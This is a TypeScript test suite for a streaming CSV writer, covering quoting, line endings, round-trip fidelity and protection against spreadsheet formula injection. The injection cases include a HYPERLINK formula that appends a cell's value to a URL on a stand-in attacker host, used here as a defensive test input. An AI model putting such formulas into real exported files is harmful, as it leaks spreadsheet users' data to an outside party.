import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvFile } from './index.ts';

async function* each<T>(rows: readonly T[]): AsyncGenerator<T> {
  yield* rows;
}

async function fileOf(columns: readonly string[], rows: readonly Record<string, string>[]): Promise<string> {
  let file = '';
  for await (const line of csvFile(columns, each(rows))) file += line;
  return file;
}

/** A reader of RFC 4180, written apart from the writer: the cells line by line. */
function read(file: string): string[][] {
  const cells = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of file.replace(/^\uFEFF/, '').matchAll(cells)) {
    lines.at(-1)?.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
    if (end === '\r\n') lines.push([]);
  }
  return lines.slice(0, -1);
}

describe('a CSV file', () => {
  it('begins with the mark of UTF-8 and its columns, and ends every line as spreadsheets do', async () => {
    expect(await fileOf(['name', 'from'], [{ name: 'Zoë', from: '10.0.0.1' }])).toBe('\uFEFFname,from\r\nZoë,10.0.0.1\r\n');
  });

  it('without rows still says what its columns are', async () => {
    expect(await fileOf(['name', 'from'], [])).toBe('\uFEFFname,from\r\n');
  });

  it('has an empty cell where a row has nothing, and leaves out what is no column', async () => {
    expect(await fileOf(['a', 'b'], [{ b: '2', c: '3' }])).toBe('\uFEFFa,b\r\n,2\r\n');
  });

  it.each([
    ['a comma', 'Moreno, Ana', '"Moreno, Ana"'],
    ['quotes', 'the "old" one', '"the ""old"" one"'],
    ['a line break', 'one\ntwo', '"one\ntwo"'],
    ['a carriage return', 'one\rtwo', '"one\rtwo"'],
    ['nothing special', "O'Brien; 7 → 8", "O'Brien; 7 → 8"],
  ])('quotes a cell with %s', async (_, cell, written) => {
    expect(await fileOf(['a'], [{ a: cell }])).toBe(`\uFEFFa\r\n${written}\r\n`);
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', '=HYPERLINK("https://evil.example?"&A1,"Click")'])(
    'lets a spreadsheet take %j for text and not for a formula',
    async (formula) => {
      const [, [cell] = []] = read(await fileOf(['a'], [{ a: formula }]));

      expect(cell).toBe(`'${formula}`);
    },
  );

  it('gives back what was put in, whatever it is', async () => {
    const sign = fc.constantFrom('"', ',', '\r', '\n', ' ', 'a', '=', "'", ';', 'é', '\u{1F5A8}');
    const cell = fc.string({ unit: sign, maxLength: 8 }).map((text) => text.replace(/^[=\r\n]+/, ''));

    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(cell, cell, cell), { maxLength: 5 }), async (rows) => {
        const file = await fileOf(
          ['a', 'b', 'c'],
          rows.map(([a, b, c]) => ({ a, b, c })),
        );

        expect(read(file)).toEqual([['a', 'b', 'c'], ...rows]);
      }),
    );
  });

  it('is made while it is read: nobody has to hold the whole', async () => {
    let made = 0;
    const endless = async function* () {
      for (made = 1; ; made += 1) yield { a: String(made) };
    };

    const file = csvFile(['a'], endless());
    for (let line = 0; line < 4; line += 1) await file.next();

    expect(made).toBe(3);
  });
});
